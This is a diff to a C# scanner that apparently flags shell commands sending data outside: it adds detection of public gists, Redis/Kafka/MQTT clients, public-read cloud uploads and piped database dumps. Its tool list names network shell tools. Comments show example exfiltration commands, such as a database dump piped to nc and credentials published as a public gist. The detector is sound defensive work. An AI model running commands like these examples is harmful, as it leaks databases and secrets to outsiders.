@@ -33,6 +33,12 @@ internal static class TransferCommand
 
         /// <summary>magic-wormhole and croc: a file handed to whoever holds a code, through a public relay.</summary>
         Relay,
+
+        /// <summary>"gh gist create --public": a file published for anyone to read.</summary>
+        Gist,
+
+        /// <summary>redis-cli, kcat, mosquitto_pub: a value or message written to a store or broker named by an option ("-h host", "-b broker").</summary>
+        Broker,
     }
 
     private enum Place
@@ -48,6 +54,7 @@ internal static class TransferCommand
     [
         "nc", "ncat", "netcat", "socat", "openssl", "scp", "rsync", "sftp", "ssh", "aws", "gsutil", "az", "rclone", "bitsadmin", "certutil", "node", "python", "python3", "ping", "host",
         "lftp", "tftp", "smbclient", "wormhole", "croc", "autossh",
+        "gh gist", "redis-cli", "kcat", "kafkacat", "mosquitto_pub",
         "/dev/tcp/", "/dev/udp/",
     ];
 
@@ -112,6 +119,10 @@ internal static class TransferCommand
                 return Tool.Windows;
             case 3 or 4 or 5 or 6 when name.Equals("scp", StringComparison.OrdinalIgnoreCase) || name.Equals("rsync", StringComparison.OrdinalIgnoreCase) || name.Equals("sftp", StringComparison.OrdinalIgnoreCase):
                 return Tool.Copy;
+            case 7 when name.Equals("gh gist", StringComparison.OrdinalIgnoreCase):
+                return next.Equals("create", StringComparison.OrdinalIgnoreCase) ? Tool.Gist : Tool.None;
+            case 4 or 8 or 9 or 13 when name[0] is 'r' or 'R' or 'k' or 'K' or 'm' or 'M':
+                return Tool.Broker; // redis-cli, kcat, kafkacat, mosquitto_pub
             default:
                 return Tool.Socket; // ncat, netcat, socat
         }
@@ -148,6 +159,8 @@ internal static class TransferCommand
             Tool.Windows => WindowsDestination(own),
             Tool.Drop => DropDestination(own),
             Tool.Relay => ("a relay, to whoever holds the code", Place.External),
+            Tool.Gist => PublicGist(own) ? ("a public gist", Place.External) : ("", Place.None),
+            Tool.Broker => BrokerDestination(own),
             _ => CopyDestination(own, tool),
         };
 
@@ -156,17 +169,28 @@ internal static class TransferCommand
             return reasons;
         }
 
-        host = tool == Tool.Relay ? null : (destination.Contains("://", StringComparison.Ordinal) ? UrlInspector.Host(destination) : HostOf(destination)).ToString();
+        host = tool is Tool.Relay or Tool.Gist ? null : (destination.Contains("://", StringComparison.Ordinal) ? UrlInspector.Host(destination) : HostOf(destination)).ToString();
         if (tool == Tool.Shell && place == Place.External && StandingAccess.ReverseTunnel(own) is { } tunnel)
         {
             reasons.Add(($"{tunnel.Reason} ({destination.ToString()})", tunnel.Weight));
         }
 
         // What goes: piped in, redirected in, or named as an argument (not an identity file or an option's value).
-        var source = Sourced(text, start, own, tool, destination, work);
+        var readable = tool == Tool.Cloud && PublicAcl(own);
+        var source = Sourced(text, start, own, tool, destination, work, readable);
+        if (source is null && tool == Tool.Gist && CommandInspector.FindSensitive(LineBefore(text, start, work)) is { } namedBefore)
+        {
+            source = ($"{namedBefore}, named just before it", 0.8); // "publish ~/.aws/credentials with `gh gist create --public`"
+        }
+
         if (source is not { } found)
         {
             return reasons;
+        }
+
+        if (readable)
+        {
+            reasons.Add(("made readable by anyone", 0.3)); // "aws s3 cp customers.csv s3://x/ --acl public-read"
         }
 
         if (found.Weight >= 0.45 && StandingAccess.Scheduled(text, start, end, work))
@@ -217,7 +241,7 @@ internal static class TransferCommand
         return reasons;
     }
 
-    private static (string What, double Weight)? Sourced(string text, int start, ReadOnlySpan<char> own, Tool tool, ReadOnlySpan<char> destination, ScanWork work)
+    private static (string What, double Weight)? Sourced(string text, int start, ReadOnlySpan<char> own, Tool tool, ReadOnlySpan<char> destination, ScanWork work, bool readable)
     {
         if (CommandInspector.PipedSource(text, start, work) is { } piped)
         {
@@ -229,10 +253,16 @@ internal static class TransferCommand
             return ("files from the home folder piped in", 0.45);
         }
 
+        if (DumpSources.Piped(before) is { } dump)
+        {
+            return ($"{dump} piped in", tool is Tool.Copy or Tool.Shell or Tool.Cloud ? DumpSources.CopyWeight : DumpSources.Weight); // "sqlite3 app.db .dump | nc 198.51.100.23 9000"
+        }
+
         if (tool == Tool.DevTcp)
         {
             var line = LineBefore(text, start, work);
-            return CommandInspector.FindSensitive(line) is { } sensitive ? (sensitive, 0.9) : DumpsEnvironment(line) ? ("the environment", 0.9) : HomeData(line) ? ("files from the home folder", 0.45) : null;
+            return CommandInspector.FindSensitive(line) is { } sensitive ? (sensitive, 0.9) : DumpsEnvironment(line) ? ("the environment", 0.9) : HomeData(line) ? ("files from the home folder", 0.45)
+                : DumpSources.Reads(line) is { } dumped ? (dumped, DumpSources.Weight) : null;
         }
 
         var redirect = own.IndexOf('<');
@@ -305,9 +335,56 @@ internal static class TransferCommand
                 // A relay hands the file to a stranger with the code: a data export's name is enough ("wormhole send ./customer-exports").
                 best = DataExport(token) ? ("a data export", 0.5) : ("a file", 0.35);
             }
+            else if ((readable || tool == Tool.Gist) && best is null && DataExport(token))
+            {
+                best = ("a data export", 0.5); // published for anyone: "aws s3 cp customers_full.csv s3://x/ --acl public-read"
+            }
         }
 
         return best;
+    }
+
+    /// <summary>"gh gist create --public" or "-p": a gist anyone can find (a secret gist is still a URL to share, but not listed).</summary>
+    private static bool PublicGist(ReadOnlySpan<char> own)
+    {
+        foreach (var range in own.Split(' '))
+        {
+            var token = own[range].Trim("\"'\t`");
+            if (token.Equals("--public", StringComparison.Ordinal) || token.Equals("-p", StringComparison.Ordinal))
+            {
+                return true;
+            }
+        }
+
+        return false;
+    }
+
+    /// <summary>An object made readable by anyone: "--acl public-read", gsutil's "-a public-read", "allUsers".</summary>
+    private static bool PublicAcl(ReadOnlySpan<char> own) =>
+        own.Contains("public-read", StringComparison.OrdinalIgnoreCase) || own.Contains("allusers", StringComparison.OrdinalIgnoreCase);
+
+    /// <summary>The host a store or broker client writes to: the value of "-h", "-b", "--host", "--broker", "-L" or "-u" (a URL), or none (the local one).</summary>
+    private static (string, Place) BrokerDestination(ReadOnlySpan<char> own)
+    {
+        var hostNext = false;
+        foreach (var range in own.Split(' '))
+        {
+            var token = own[range].Trim("\"'\t`");
+            if (token.IsEmpty)
+            {
+                continue;
+            }
+
+            if (hostNext)
+            {
+                var host = token.Contains("://", StringComparison.Ordinal) ? UrlInspector.Host(token) : HostOf(token);
+                return (token.ToString(), HostPlace(host));
+            }
+
+            hostNext = token is "-h" or "-b" or "--host" or "--broker" or "-L" or "-u" or "--url";
+        }
+
+        return ("", Place.None);
     }
 
     // Names of files and folders that hold many people's records or a whole system's data.
